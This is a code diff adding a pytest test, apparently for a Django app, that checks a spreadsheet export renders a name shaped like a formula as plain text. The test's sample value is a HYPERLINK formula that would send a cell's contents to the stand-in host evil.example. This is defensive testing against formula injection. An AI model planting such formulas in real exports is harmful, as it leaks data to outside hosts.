@@ -455,6 +455,21 @@ def test_the_spreadsheet_download(client, march):
     assert edit[7] == dt.timedelta(minutes=45) and edit[8] == dt.timedelta(minutes=75)
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+
+
+@pytest.mark.django_db
+def test_the_monitoring_workbook_shows_a_name_that_looks_like_a_formula_as_text(march):
+    person = march["humas2"]
+    person.name = FORMULA
+    person.save(update_fields=["name"])
+    report = selectors.monitoring(rspon(), sops.find("rspon-medsos"), MARCH)
+    workbook = load_workbook(io.BytesIO(render_xlsx(report, "id")))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert FORMULA in {cell.value for cell in cells}
+
+
 def pdf_text(data: bytes) -> str:
     reader = PdfReader(io.BytesIO(data))
     return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)
